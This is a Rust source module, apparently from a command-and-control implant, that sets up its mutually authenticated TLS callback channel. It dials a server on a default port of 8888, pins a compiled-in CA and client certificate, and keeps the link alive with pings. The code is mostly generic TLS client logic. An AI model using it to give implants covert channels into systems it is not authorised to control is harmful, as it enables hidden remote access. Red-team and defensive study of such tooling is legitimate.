//! Mutually-authenticated TLS carrier. Both ends of the handshake are
//! pinned to compiled-in key material: the server certificate must chain
//! to the baked CA and the implant presents its own baked client
//! certificate.

use super::{stream, ConnectError, Connection};
use crate::{config, envelope::EnvelopeCodec, state};
use log::debug;
use std::{
    io::{self, BufReader, Cursor},
    sync::Arc,
    time::Duration,
};
use tokio::net::TcpStream;
use tokio_rustls::{
    rustls::{
        pki_types::{CertificateDer, PrivateKeyDer, ServerName},
        ClientConfig, RootCertStore,
    },
    TlsConnector,
};
use tokio_util::codec::Framed;
use url::Url;

/// Interval between keep-alive pings on an idle channel
const PING_INTERVAL: Duration = Duration::from_secs(60);

/// Port dialed when the server URI doesn't carry one
const DEFAULT_PORT: u16 = 8888;

pub(super) async fn connect(uri: &Url) -> Result<Arc<Connection>, ConnectError> {
    let host = uri.host_str().ok_or(ConnectError::InvalidUri)?;
    let port = uri.port().unwrap_or(DEFAULT_PORT);

    debug!("[mtls] Connecting to {host}:{port}");

    let connector = tls_connector()?;
    let server_name =
        ServerName::try_from(host.to_string()).map_err(|_| ConnectError::InvalidUri)?;

    let socket = TcpStream::connect((host, port)).await?;
    let socket = connector.connect(server_name, socket).await?;

    let io = Framed::new(socket, EnvelopeCodec);
    let connection = stream::spawn(
        io,
        PING_INTERVAL,
        Box::new(|| debug!("[mtls] Lost connection, cleaning up")),
    );

    state::set_active_connection(connection.clone());
    Ok(connection)
}

/// Builds the TLS connector from the compiled key material
fn tls_connector() -> Result<TlsConnector, ConnectError> {
    let mut roots = RootCertStore::empty();
    for cert in parse_certs(config::MTLS_CA_CERT_PEM)? {
        roots.add(cert)?;
    }

    let certs = parse_certs(config::MTLS_CLIENT_CERT_PEM)?;
    let key = parse_key(config::MTLS_CLIENT_KEY_PEM)?;

    let config = ClientConfig::builder()
        .with_root_certificates(roots)
        .with_client_auth_cert(certs, key)?;

    Ok(TlsConnector::from(Arc::new(config)))
}

/// Parses every certificate in a compiled PEM blob
fn parse_certs(pem: &str) -> Result<Vec<CertificateDer<'static>>, ConnectError> {
    let certs: Vec<_> = rustls_pemfile::certs(&mut BufReader::new(Cursor::new(pem)))
        .collect::<Result<_, _>>()?;
    Ok(certs)
}

/// Parses the private key from a compiled PEM blob
fn parse_key(pem: &str) -> Result<PrivateKeyDer<'static>, ConnectError> {
    rustls_pemfile::private_key(&mut BufReader::new(Cursor::new(pem)))?.ok_or_else(|| {
        ConnectError::Io(io::Error::new(
            io::ErrorKind::InvalidInput,
            "no private key in compiled pem",
        ))
    })
}
